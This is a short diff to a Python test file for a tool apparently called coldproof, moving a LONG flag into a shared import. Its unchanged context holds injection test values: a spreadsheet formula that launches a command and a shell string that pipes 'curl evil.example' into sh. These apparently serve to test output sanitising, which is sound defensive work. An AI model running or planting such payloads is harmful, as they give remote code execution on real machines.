@@ -18,6 +18,7 @@ from bench import synthetic
 from coldproof.cli import main
 from coldproof.fleet.analysis import look
 from coldproof.gather import gather_campaign
+from tests.counts import LONG
 
 HONEST = [f"gpu-0{number}" for number in range(1, 6)]
 EVIL = "gpu-13"
@@ -26,7 +27,6 @@ FORMULA = "=cmd|' /C calc'!A0"
 SHELL = "x; curl evil.example | sh #"
 OUTPUTS = ("storage_load_bench.md", "storage_load_bench.csv", "capacity_review.md",
            "capacity_review.json", "comparison.md", "comparison.json")  # fmt: skip
-LONG = bool(os.environ.get("COLDPROOF_LONG"))
 
 
 class Arena:
